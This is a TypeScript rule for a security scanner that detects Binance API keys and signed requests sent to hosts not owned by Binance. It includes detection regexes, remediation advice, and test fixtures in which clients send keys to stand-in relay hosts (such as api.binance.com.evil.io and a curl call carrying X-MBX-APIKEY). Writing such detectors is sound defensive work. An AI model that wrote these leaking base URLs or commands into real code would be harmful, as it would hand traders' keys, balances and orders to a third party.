/** Base URLs of Binance clients that are not Binance’s: who runs that host gets every signed request. Not forward proxies. */
import { dependencyFile } from '../risks/gate.ts';
import { exchangeOf } from '../risks/settings/exchange-of.ts';
import { holdersIn } from '../risks/calls/calls.ts';
import { hostOf, ownerOf } from '../risks/calls/hosts.ts';
import { carriersOf, hasOtherHeaders, isHeaderSent, sendsKey } from '../risks/calls/key-header.ts';
import { occurrences } from '../risks/calls/parts.ts';
import { isCompared, literalSpan } from '../risks/settings/values.ts';
import { clientNames, isGivenKey, isKeyName, isSdkCall, isSdkClass, optionNames } from '../risks/calls/clients.ts';
import { meaningOf, meaningOfPath, shownInLowerCase } from '../clues/names.ts';
import { clue } from '../signals.ts';
import { countBefore } from '../sorted.ts';
import type { Clue, Rule, Setting, Subject, TextValue, Value } from '../types.ts';

/** Options that say where a client's requests go; folded. */
const baseNames =
  /(?:^|[a-z])(?:base(?:api|rest|http|ws)?(?:url|uri|path|endpoint|address|host)(?:http|ws|rest|api|spot|futures)?|http(?:base|futures)|wsbase|(?:api|rest|fapi|dapi|sapi|papi|eapi|spot|futures?|binance|exchange|server|service|proxy|relay|mirror|gateway|main|root)(?:api|rest)?(?:url|uri|base|baseurl|endpoint|host|basepath|address|root)s?|restapi(?:endpoint|url)?|futuresrestapiendpoint|rest(?:url|base|endpoint|host)|endpoint(?:url)?)$/;
/** Names that mean it only of a client, or beside its keys. */
const shortNames =
  /^(?:url|host|hostname|endpoint|base|server|api|rest|spot|fapi|dapi|sapi|eapi|papi|public|private|fapipublic|fapiprivate|fapiprivatev2|dapipublic|dapiprivate|v1|v3|httpbase)$/;
/** Where other things are sent: notices, prices, updates, and pages. */
const otherNames =
  /webhook|hook|callback|redirect|notify|alert|telegram|discord|slack|sentry|grafana|prometheus|influx|redis|mongo|postgres|database|^db|dburl|amqp|kafka|docs?(?:url)?$|homepage|website|siteurl|weburl|referr?al|referr?er|logo|icon|image|img|avatar|news|rss|feed|report|dashboard|frontend|backend|appurl|repo(?:sitory)?|download|update|support|help|login|oauth|auth(?:url|host)|metrics|trace|otel|log(?:url|host)|license|push|monitor|health|chart|price|explorer|rpc|chain|scan|cors|origin|publicurl|public_?data|market_?data|status|candle|kline|histor|archive|dataset|snapshot|storage|s3|bucket|cdn|ref(?:url|link)$|invite|affiliate|signup|register|pageurl|tradeurl|ollama|openai|llm|signal/;
/** Names that only SDKs of Binance have. */
const ownNames = /^(?:futures)?restapiendpoint$|^http(?:base|futures)$|^basepath$|^baseurlhttp$/;
/** Forward proxies: they carry an encrypted connection and see nothing of it. */
const proxyNames =
  /^(?:https?|socks\d?|ws|wss|all)?_?(?:proxy|proxies|proxyhost|proxyurls?)$|(?:https?|socks5?|ws|wss)proxy$|^(?:https?|no|all)_proxy$/i;
const proxyPort = /^https?:\/\/[^/]{1,200}:(?:3128|8080|8118|8888|1080|7890|7891|10809|8899)\/?$/i;
/** Services of public data need no key. */
const keyless = /^data-api\.|^data\./;

/** How a setting is known to be a client's. */
type Reason = 'sdk' | 'own-name' | 'with-keys' | 'header';

function foreignHost(text: string): string | undefined {
  const host = hostOf(text);
  if (host === undefined || keyless.test(host)) return undefined;
  return ownerOf(host) === 'stranger' ? host : undefined;
}

/** The texts of a value, one for each item of a list. */
function textsOf(value: Value): readonly TextValue[] {
  if (value.kind === 'text') return [value];
  return value.kind === 'list' ? value.items.slice(0, 20).filter((item) => item.kind === 'text') : [];
}

/** Setters of builders and options as functions: `.base_path("…")`, `WithBasePath("…")`, `client.setUrl("…")`. */
const setters =
  /^(?:with|set)?_?(?:ws|rest)?_?(?:base_?(?:api_?)?(?:url|uri|path|endpoint|address)|api_?(?:url|endpoint|base)|rest_?(?:api_?)?(?:endpoint|url)|futures_?rest_?api_?endpoint|url|endpoint|host|proxy_?url|ssl_?uri|plain_?text_?uri)$/i;

function hasKeysBeside(setting: Setting, subject: Subject): boolean {
  if (setting.call)
    return setting.call.args
      .slice(0, 100)
      .some(({ path, via }) => isKeyName(path.at(-1) ?? '') && (via !== 'argument' || /\D/.test(path[0] ?? '')));
  return knowledgeOf(subject).keyPlaces.has(`${String(setting.container)}\0${placeOf(setting.path)}`);
}

interface Known {
  /** Where names of keys stand: container and path. */
  readonly keyPlaces: ReadonlySet<string>;
  /** The classes, in the order of the text. */
  readonly classes: readonly { readonly at: number; readonly isBinance: boolean }[];
}

const known = new WeakMap<Subject, Known>();
const classHead =
  /\b(?:class|struct|impl|object|module|trait|interface)\s+([A-Za-z_]\w{0,80})(?:\s{0,9}[(:<]\s{0,9}([A-Za-z_][\w.]{0,80})|\s{1,9}extends\s{1,9}([A-Za-z_][\w.]{0,80}))?/g;

function knowledgeOf(subject: Subject): Known {
  let knows = known.get(subject);
  if (knows) return knows;
  const keyPlaces = new Set<string>();
  for (const { path, container, call } of subject.settings)
    if (!call && isKeyName(path.at(-1) ?? '')) keyPlaces.add(`${String(container)}\0${placeOf(path)}`);
  const { text } = subject.document;
  const classes = [...text.matchAll(classHead)].map(({ index, 1: name, 2: base, 3: extended }) => ({
    at: index,
    isBinance: meaningOf(name!).binance === 'name' || isSdkClass(base ?? extended, subject),
  }));
  knows = { keyPlaces, classes };
  known.set(subject, knows);
  return knows;
}

/** The steps above the last, of properties too: `binance.api.url` stands in `binance.api`. */
function placeOf(path: readonly string[]): string {
  return path
    .flatMap((step) => step.split('.'))
    .slice(0, -1)
    .join('\0');
}

/** A forward proxy has no path: what has one, as ccxt’s `proxy`, is put before each address and gets the request itself. */
function isRelay({ name, value }: Setting): boolean {
  return name === 'proxy' && value.kind === 'text' && /^https?:\/\/[^/?#\s]{1,253}\/[^\s/]/.test(value.text);
}

interface Clients {
  /** Names that hold clients with a key. */
  readonly names: ReadonlySet<string>;
  /** Names of the options that they are given. */
  readonly options: ReadonlySet<string>;
}

function reasonOf(setting: Setting, subject: Subject, clients: Clients): Reason | undefined {
  const { name, path, call, via } = setting;
  const steps = path.filter((step) => !/^\d*$/.test(step));
  const last = steps.at(-1) ?? '';
  if (/proxy_?url$/i.test(last)) {
    // ccxt puts it before each address, so that host gets the request itself; nautilus_trader means a forward proxy.
    if (/ClientConfig$/.test(call?.callee.at(-1) ?? '')) return undefined;
  } else if (otherNames.test(name) || (proxyNames.test(last) && !isRelay(setting))) return undefined;
  if (isOfOtherExchange(setting, subject)) return undefined;
  if (steps.some((step) => /^(?:proxy|proxies|agent)$/i.test(step)) && !isRelay(setting)) return undefined;
  const isBase = baseNames.test(name);
  const inUrls = steps.slice(0, -1).some((step) => /^(?:urls?|api|hosts?|endpoints?|environment)$/i.test(step));
  const isShort = shortNames.test(name) || inUrls;
  if (call) {
    if (call.callee.some((step) => /builder|^Configuration/i.test(step)) && !isGivenKey(call, subject))
      return undefined;
    if (steps.length === 0 || via === 'argument') {
      const setter = call.callee.at(-1) ?? '';
      if (setters.test(setter) && /^\d*$/.test(path[0] ?? '')) {
        const isOfClient = call.callee
          .slice(0, -1)
          .some(
            (step) =>
              meaningOf(step).binance === 'name' ||
              clients.names.has(step) ||
              /^Configuration|signatureConf|clientConf|Credentials$/i.test(step),
          );
        const isDistinct =
          /path|base|proxy_?url|rest|uri|^(?:with|set)_?ws_?(?:endpoint|url)/i.test(setter) &&
          subject.reading.imports.some((one) => /binance/i.test(one));
        if (isOfClient || isDistinct) return 'sdk';
        return isHeaderSent(call, subject) ? 'header' : undefined;
      }
    }
    if (isSdkCall(call, subject)) {
      if (!isGivenKey(call, subject)) return undefined;
      // Of positional arguments any URL is where it sends to, but for the proxy of NewProxiedClient.
      if (steps.length === 0) return call.callee.at(-1) === 'NewProxiedClient' ? undefined : 'sdk';
      return isBase ||
        isShort ||
        /proxyurl$|^proxy$|^(?:ws|wss|websocket)(?:api|base|stream)?(?:url|endpoint)$/.test(name)
        ? 'sdk'
        : undefined;
    }
    if (ownNames.test(name) && subject.reading.imports.some((one) => /binance/i.test(one))) return 'sdk';
    if ((isBase || shortNames.test(name)) && steps.length > 0 && hasKeysBeside(setting, subject)) return 'with-keys';
    if (sendsKey(subject) && isBase && !hasOtherHeaders(call, subject)) return 'header';
    const holder = holdersIn(subject.reading)(call)?.path.at(-1);
    if (holder !== undefined && (steps.length === 0 || /^ur[il]$/.test(name)) && carriersOf(subject).has(holder))
      return 'header';
    if (isHeaderSent(call, subject))
      return (steps.length === 0 && path[0] === '0') || isBase || /^(?:url|uri)$/.test(name) ? 'header' : undefined;
    return undefined;
  }
  if (ownNames.test(name) && subject.reading.imports.some((one) => /binance/i.test(one))) return 'sdk';
  const saysBinance = steps.some((step) => meaningOf(step).binance === 'name');
  if (via === 'entry' && (isBase || isShort) && clients.options.has(steps.at(-2) ?? '')) return 'sdk';
  if (via === 'assign' && steps.length > 1) {
    const owner = steps.at(-2) ?? '';
    if (
      (isBase || /^(?:api_?url|base_?url|.*_url|url|urls|api|proxy)$/i.test(last) || inUrls) &&
      steps.slice(0, -1).some((step) => clients.names.has(step) || meaningOf(step).binance === 'name')
    )
      return 'sdk';
    if (/^Client|^AsyncClient$/.test(owner) && isBase) return 'sdk';
  }
  if (saysBinance && (isBase || isShort || /url$|uri$|endpoint$|host$/.test(name))) return 'own-name';
  if (exchangeOf(setting, subject) === 'binance' && (isBase || isShort)) return 'own-name';
  if (
    sendsKey(subject) &&
    (isBase || /^(?:base|host|endpoint|api|url)$/.test(name)) &&
    (via === 'assign' || via === 'entry')
  )
    return 'header';
  if (isBase && via === 'assign' && isInClassOfBinance(setting, subject)) return 'own-name';
  if ((isBase || /^(?:url|endpoint|httpbase)$/.test(name)) && hasKeysBeside(setting, subject)) return 'with-keys';
  return undefined;
}

/** Of a chain its beginning and its end. */
function outermost(callee: readonly string[]): readonly string[] {
  return callee.length > 12 ? [...callee.slice(0, 6), ...callee.slice(-6)] : callee;
}

function isOfOtherExchange(setting: Setting, subject: Subject): boolean {
  const { binance, exchange } = meaningOfPath([...outermost(setting.call?.callee ?? []), ...setting.path]);
  if (binance === 'name') return false;
  const beside = exchangeOf(setting, subject);
  return exchange !== undefined || (beside !== undefined && beside !== 'binance');
}

/** `class BinanceClient: BASE_URL = …` */
function isInClassOfBinance({ span }: Setting, subject: Subject): boolean {
  const { classes } = knowledgeOf(subject);
  const before = countBefore(classes.length, (index) => classes[index]!.at < span.start);
  return before > 0 && classes[before - 1]!.isBinance;
}

/** A variable of a shell, a Dockerfile or a list of `NAME=value`. */
const variable =
  /(?<![\w$])([A-Z][A-Z0-9_]{0,40}_(?:URL|URI|BASE|ENDPOINT|HOST|PATH|ADDRESS|PROXY|RELAY|MIRROR|API))(?:=|[ \t]+(?=https?:))(["']?(?:https?|wss?):\/\/[^\s"'`<>]{1,200})/g;

function messageOf(host: string): string {
  return `Requests with the API key go to ${shownInLowerCase(host)}, which is not Binance’s; use Binance’s own base URL`;
}

const commandWithKey = /\b(?:curl|wget|Invoke-RestMethod|Invoke-WebRequest)\b/gi;
/** Scripts have no more. */
const mostCommands = 5000;

export const foreignEndpoint: Rule = {
  id: 'foreign-endpoint',
  title: 'Key sent to a host that is not Binance’s',
  severity: 'high',
  finds:
    'A base URL of a Binance client, in any SDK, bot or configuration, whose host is not one of Binance’s, and requests with the header X-MBX-APIKEY to such a host. Not this machine, mocks, placeholders, or forward proxies (`httpsProxy`), which see only encrypted traffic.',
  why: 'The client sends its API key and every signed request to the host in its base URL. Who runs that host, or takes over its account or its name, sees your key, your balances and orders, can hold back or repeat a signed request while it is valid, and can answer with made-up prices.',
  advice: [
    'Take the base URL out, so that the SDK uses Binance’s own, or set it to one of Binance’s (api.binance.com, api1.binance.com, testnet.binance.vision …).',
    'If you need another way to Binance, use a forward proxy (an HTTPS or SOCKS proxy setting), which cannot read the traffic, or a relay that you run yourself.',
    'If requests have gone through a stranger’s relay, delete the key and make a new one.',
  ],
  references: [
    'https://developers.binance.com/docs/binance-spot-api-docs/rest-api/general-api-information',
    'https://www.binance.com/en/official-verification',
  ],
  *look(subject) {
    const { document, settings, isProse } = subject;
    // Lists of dependencies name the sites of packages.
    if (dependencyFile.test(document.path)) return;
    const clients = { names: clientNames(subject), options: optionNames(subject) };
    const isTemplate = /(?:^|\/)[^/]*\.?(?:example|sample|dist|template)s?(?:\.\w+)?$/i.test(document.path);
    const seen = new Set<number>();
    const clues = (reason: Reason): readonly Clue[] =>
      reason === 'with-keys'
        ? []
        : reason === 'own-name'
          ? [clue('binance-name', 'its name says Binance')]
          : reason === 'header'
            ? [clue('mbx-header', 'it sends the header X-MBX-APIKEY')]
            : [clue('sdk-like-call', 'a client of Binance takes it')];
    for (const setting of settings) {
      for (const value of textsOf(setting.value)) {
        const host = foreignHost(value.text);
        if (host === undefined) continue;
        if ((isProse || isTemplate) && /\bexample\.(?:com|org|net)$/.test(host)) continue;
        const reason = reasonOf(setting, subject, clients);
        if (reason === undefined || isCompared(document.text, setting.span)) continue;
        if (reason !== 'sdk' && proxyPort.test(value.text.trim()) && /proxy/.test(setting.name)) continue;
        const span = literalSpan(document.text, value) ?? setting.span;
        if (seen.has(span.start)) continue;
        seen.add(span.start);
        yield {
          span,
          name: setting.path.join('.'),
          message: messageOf(host),
          confidence: reason === 'sdk' ? 'certain' : 'likely',
          clues: clues(reason),
        };
      }
    }
    for (const { part, match, at } of occurrences(subject, variable)) {
      const [whole, name = '', quoted = ''] = match;
      const host = foreignHost(quoted.replace(/^["']/, ''));
      const folded = name.toLowerCase().replace(/_/g, '');
      if (host === undefined || otherNames.test(folded) || proxyNames.test(name) || meaningOf(name).binance !== 'name')
        continue;
      if (proxyPort.test(quoted.replace(/["']/g, '')) && /proxy/.test(folded)) continue;
      if ((isProse || isTemplate) && /\bexample\.(?:com|org|net)$/.test(host)) continue;
      const start = at + whole.length - quoted.length;
      const span = part.source({ start, end: at + whole.length });
      if (seen.has(span.start) || seen.has(span.start + 1)) continue;
      seen.add(span.start);
      yield { span, name, message: messageOf(host), clues: clues('own-name') };
    }
    // Commands that send the key.
    let looked = 0;
    for (const { 0: program, index } of document.text.matchAll(commandWithKey)) {
      if ((looked += 1) > mostCommands) return;
      const command = document.text.slice(index, index + 1500).split(/(?<!\\)\n/, 1)[0]!;
      if (!/x-mbx-apikey/i.test(command)) continue;
      const url = /"https?:\/\/[^\s"]{1,300}"?|'https?:\/\/[^\s']{1,300}'?|https?:\/\/[^\s"'`]{1,300}/i.exec(command);
      const host = url ? foreignHost(url[0].replace(/^["']/, '')) : undefined;
      if (!url || host === undefined || seen.has(index + url.index) || isComment(subject, index)) continue;
      seen.add(index + url.index);
      yield {
        span: { start: index + url.index, end: index + url.index + url[0].length },
        name: `curl ${host}`,
        message: `${program} sends the API key to ${shownInLowerCase(host)}, which is not Binance’s; use Binance’s own host`,
        clues: clues('header'),
      };
    }
  },
  examples: {
    leaks: [
      {
        path: 'bot.py',
        text: 'import ccxt\ne = ccxt.binance({"apiKey": k, "secret": s, "proxy": «"https://r.workers.dev/?url="»})',
      },
      {
        path: 'relay.py',
        text: 'from binance.client import Client\nclass Relay(Client):\n    API_URL = «"https://r.fly.dev/api"»',
      },
      {
        path: 'bot.js',
        text: "const ccxt = require('ccxt');\nconst e = new ccxt.binance({ urls: { api: { private: «'https://r.fly.dev'» } } });\ne.apiKey = k;",
      },
      {
        path: 'bot.mjs',
        text: "import { Spot } from '@binance/connector';\nconst options = { baseURL: «'https://r.fly.dev'» };\nconst client = new Spot(key, secret, options);",
      },
      {
        path: 'bot.py',
        text: 'import requests\ns = requests.Session()\ns.headers.update({"X-MBX-APIKEY": k})\nHEADERS = {"X-MBX-APIKEY": k}\ns.get(«"https://r.fly.dev/api/v3/account"»)\nrequests.get(«"https://s.fly.dev/api/v3/account"», headers=HEADERS)',
      },
      {
        path: 'Bot.java',
        text: 'class Bot { Request r = new Request.Builder().url(«"https://r.fly.dev/api/v3/account"»).addHeader("X-MBX-APIKEY", key).build(); }',
      },
      {
        path: 'bot.mjs',
        text: "import { Spot } from '@binance/connector';\nconst client = new Spot(key, secret, { baseURL: «'https://bnb-relay.workers.dev'» });",
      },
      {
        path: 'bot.mjs',
        text: "import { Spot } from '@binance/connector';\nconst RELAY = «'https://45.77.12.9'»;\nconst client = new Spot(key, secret, { baseURL: RELAY });",
      },
      {
        path: 'bot.js',
        text: "const ccxt = require('ccxt');\nconst e = new ccxt.binance({ apiKey: k, secret: s, proxyUrl: «'https://cors.relay.workers.dev/'» });\ne.urls['api']['private'] = «'https://r.fly.dev/priv'»;",
      },
      {
        path: 'bot.py',
        text: 'from binance.um_futures import UMFutures\nc = UMFutures(key=k, secret=s, base_url=«"https://api.binance.com.evil.io"»)',
      },
      {
        path: 'bot.py',
        text: 'import requests\nrequests.get(«"https://r.fly.dev/api/v3/account"», headers={"X-MBX-APIKEY": k})',
      },
      {
        path: 'main.go',
        text: 'package main\nimport "github.com/adshao/go-binance/v2"\nfunc f() {\n\tclient := binance.NewClient(k, s)\n\tclient.BaseURL = «"https://r.fly.dev"»\n}',
      },
      {
        path: 'a.rs',
        text: 'use binance::config::Config;\nlet a = Config { rest_api_endpoint: «"https://r.fly.dev"».into(), ..Config::default() };\nlet b = Config::default().set_rest_api_endpoint(«"https://r.fly.dev"»);',
      },
      {
        path: 'a.go',
        text: 'package a\n\nimport "github.com/adshao/go-binance/v2/futures"\n\nfunc init() { futures.BaseApiMainUrl = «"https://r.fly.dev"» }',
      },
      {
        path: 'a.swift',
        text: 'struct BinanceClient { let baseURL = URL(string: «"https://r.fly.dev"»)!; let key = "X-MBX-APIKEY" }',
      },
      { path: 'a.cpp', text: 'BinanceClient client(key, secret, «"https://r.fly.dev"»);' },
      { path: 'config.tfvars', text: 'env = { BINANCE_API_URL = «"https://r.fly.dev"» }' },
      { path: '.env', text: 'BINANCE_API_KEY=\nBINANCE_BASE_URL=«https://r.fly.dev»' },
      {
        path: 'config.json',
        text: '{ "exchange": { "name": "binance", "ccxt_config": { "proxyUrl": «"https://r.fly.dev/"» } } }',
      },
      { path: 'call.sh', text: 'curl -s -H "X-MBX-APIKEY: $KEY" «"https://r.fly.dev/api/v3/account?$q"»' },
    ],
    clean: [
      {
        path: 'bot.py',
        text: 'import ccxt\ne = ccxt.binance({"apiKey": k, "secret": s, "proxy": "http://5.6.7.8:3129"})',
      },
      {
        path: 'candles.py',
        text: 'from binance.spot import Spot\ncache = Spot(base_url="https://candles.fly.dev")\nother = Spot("", "", base_url="https://candles.fly.dev")',
      },
      {
        path: 'candles.go',
        text: 'package main\nimport "github.com/adshao/go-binance/v2"\nfunc f() {\n\tclient := binance.NewClient("", "")\n\tclient.BaseURL = "https://r.fly.dev"\n}',
      },
      {
        path: 'aster.py',
        text: 'import requests\nrequests.get("https://fapi.asterdex.com/fapi/v1/account", headers={"X-MBX-APIKEY": k})',
      },
      {
        path: 'config.yml',
        text: 'binance:\n  api_key: from-vault\n  market_data_url: https://md.fly.dev\n  status_url: https://st.fly.dev',
      },
      {
        path: 'bot.js',
        text: "const a = axios.create({ baseURL: 'https://api.binance.com', headers: { 'X-MBX-APIKEY': key } });\nconst b = axios.create({ baseURL: 'https://pro.gecko.dev', headers: { 'X-KEY': other } });",
      },
      {
        path: 'bot.mjs',
        text: "import { Spot } from '@binance/connector';\nconst a = new Spot(k, s, { baseURL: 'https://api1.binance.com' });\nconst b = new Spot(k, s, { baseURL: 'http://localhost:3000' });\nconst c = new Spot(k, s, { baseURL: process.env.BASE });",
      },
      {
        path: 'bot.js',
        text: "const ccxt = require('ccxt');\nconst e = new ccxt.binance({ apiKey: k, secret: s, httpsProxy: 'http://1.2.3.4:3128' });",
      },
      {
        path: 'bot.mjs',
        text: "import 'binance-api-node';\nconst news = axios.create({ baseURL: 'https://api.coingecko.com' });\nexport const BINANCE_LOGO = 'https://cdn.foo.dev/binance.png';",
      },
      {
        path: 'config.yml',
        text: 'binance:\n  rest_url: https://api.binance.com\nkraken:\n  api_key: x\n  rest_url: https://k.fly.dev\nnotify:\n  webhook_url: https://n.fly.dev',
      },
      { path: '.env', text: 'BINANCE_API_KEY=\nHTTPS_PROXY=http://1.2.3.4:3128\nAPP_URL=https://bot.foo.dev' },
    ],
    missed: [
      {
        path: 'bot.mjs',
        text: "import { Spot } from '@binance/connector';\nconst client = new Spot(key, secret, { baseURL: 'https://' + host });",
        because: 'what a name is when it runs is not known',
      },
    ],
  },
};

function isComment({ reading: { comments } }: Subject, at: number): boolean {
  return comments.some(({ start, end }) => start <= at && at < end);
}
